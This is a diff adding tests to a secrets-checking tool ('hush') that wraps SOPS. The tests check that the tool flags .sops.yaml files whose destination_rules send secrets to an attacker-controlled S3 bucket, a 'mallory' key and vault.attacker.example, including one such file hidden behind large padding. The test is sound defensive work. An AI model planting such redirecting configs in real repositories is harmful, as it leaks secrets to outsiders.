@@ -229,6 +229,30 @@ describe("hush check --base: destination_rules, which only `sops publish` reads"
   });
 });
 
+describe("hush check --base: destination_rules hush cannot read", () => {
+  it("a .sops.yaml that no checked file looks up, with destination_rules and a key SOPS ignores, is still a finding", () => {
+    const repo = setUpCoveredRepo(sb, "destination-rules-unread");
+    const mallory = createAgeKey(sb, "destination-rules-unread-mallory");
+    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
+    mkdirSync(join(repo, "publish"));
+    // SOPS reads its config leniently (unknown keys are ignored); hush refuses an unknown key.
+    writeFileSync(join(repo, "publish", ".sops.yaml"), `publish_notes: from here\ndestination_rules:\n  - path_regex: ^secrets/\n    s3_bucket: attacker-bucket\n    recreation_rule:\n      age: ${mallory.recipient}\n`);
+    commitAll(sb, repo, "publish from a directory of its own");
+    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
+    expect(r.stdout).toContain('publish/.sops.yaml: warning: hush cannot read this .sops.yaml (invalid .sops.yaml: line 1: unknown key "publish_notes" in the top level), so it cannot tell whether it adds or changes destination_rules, which `sops publish` by a key holder would read in it all the same: fix it [destination-rules-changed]\n');
+    expect(hush(sb, ["check", "--strict", "--base", "main"], { cwd: repo, env: sb.keylessEnv }).status).toBe(1);
+  });
+
+  it("a .sops.yaml too large to scan for secrets, without the word sops, is still compared with the base's", () => {
+    const repo = setUpCoveredRepo(sb, "destination-rules-large");
+    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
+    mkdirSync(join(repo, "publish"));
+    writeFileSync(join(repo, "publish", ".sops.yaml"), `${"# padding\n".repeat(110_000)}destination_rules:\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n`);
+    commitAll(sb, repo, "publish from a directory of its own");
+    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "publish/.sops.yaml")).toEqual(["warning destination-rules-changed"]);
+  });
+});
+
 describe("hush check --staged: a type change", () => {
   it("a covered path that was a link, staged as a plaintext file, is checked", () => {
     const repo = setUpCoveredRepo(sb, "type-change");
